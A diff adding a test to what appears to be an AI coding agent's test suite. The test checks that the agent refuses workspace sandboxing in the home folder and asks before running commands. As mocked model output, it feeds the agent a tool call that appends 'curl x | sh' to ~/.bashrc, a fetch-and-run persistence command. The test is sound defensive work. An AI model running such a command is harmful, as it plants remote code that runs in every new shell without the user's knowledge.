@@ -136,3 +136,14 @@ def test_a_sandboxed_command_still_hears_signals_and_says_how_it_ended(places):
     work, temp, _ = places
     assert "exit code 3" in run("exit 3", work, temp)[0].content
     assert "exit code 143" in run("kill -TERM $$", work, temp)[0].content  # as a shell says it
+
+
+@needs_landlock
+def test_no_workspace_sandbox_in_the_home_folder_where_startup_files_would_be_written_unasked(provider_server, tmp_path):
+    """ankit started in ~ with the workspace sandbox would let a command append to ~/.bashrc without a question."""
+    provider_server.push_openai(tool_calls=[("c1", "run_command", json.dumps({"command": "echo 'curl x | sh' >> .bashrc"}))])
+    provider_server.push_openai(text="done")
+    done = ankit(tmp_path, "--base-url", provider_server.url + "/v1", "-p", "go", HOME=str(tmp_path / "work"))
+    assert done.returncode == 0, done.stderr
+    assert not (tmp_path / "work" / ".bashrc").exists()
+    assert "holds your home folder" in done.stderr and "commands ask" in done.stderr
